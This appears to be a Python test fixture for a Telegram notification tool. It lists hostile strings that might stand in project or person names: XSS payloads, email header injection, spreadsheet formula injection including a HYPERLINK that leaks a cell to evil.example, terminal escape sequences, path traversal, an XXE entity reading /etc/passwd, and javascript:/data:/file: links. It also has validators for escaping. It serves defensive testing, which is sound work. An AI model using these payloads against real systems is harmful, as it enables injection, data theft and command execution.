"""Texts that a watched page, or a person, may put where a project's or a person's name belongs."""

from __future__ import annotations

import re
from html import unescape

POISONS = (
    "<script>alert(1)</script>",
    '</b></a><a href="tg://user?id=1">click</a>',
    '<img src=x onerror="alert(1)">',
    "&lt;b&gt;already escaped&lt;/b&gt; &amp;amp; &#60;i&#62;",
    "тема\r\nBcc: evil@example.org\r\n\r\n<b>another body</b>",
    "\nlevel=error event=forged secret=1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\x1b[2J\x1b]0;owned\x07\x9b31m\x00\x08",
    "\u202eвсё наоборот\u2066\u200b\ufeff",
    "половина \ud800 пары",
    "../../../../etc/passwd",
    "%s%n{0}{project.__class__}{ $project }",
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "_*[`~markdown`*_](http://evil.example)",
    "ж" * 9_000,
)
LINKS = (
    "javascript:alert(1)",
    "tg://user?id=1",
    "data:text/html,<script>alert(1)</script>",
    'http://evil.example/" onclick="alert(1)',
    "http://evil.example/\r\nx: y",
    "file:///etc/passwd",
)
_UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069\ufeff\ud800-\udfff]")
_TAG = re.compile(r'<(?:b|/b|/a|a href="(?P<url>[^"<>]*)")>')


def unseen(text: str) -> str:
    """The first character that a person would not see, or that a terminal obeys; "" where there is none."""
    found = _UNSEEN.search(text)
    return found[0] if found else ""


def links_of_telegram_html(html: str) -> list[str]:
    """The addresses linked to; the HTML must be what Telegram takes: b and a, closed in order, all else escaped."""
    open_tags: list[str] = []
    links = []
    for found in _TAG.finditer(html):
        name = found[0].strip("</>")[:1]
        if found[0].startswith("</"):
            assert open_tags.pop() == name, html
        else:
            open_tags.append(name)
        if found["url"] is not None:
            links.append(unescape(found["url"]))
    bare = _TAG.sub("", html)
    assert not open_tags and "<" not in bare and ">" not in bare, html
    assert not re.sub(r"&(?:amp|lt|gt|quot|#x27);", "", bare).count("&"), html
    return links
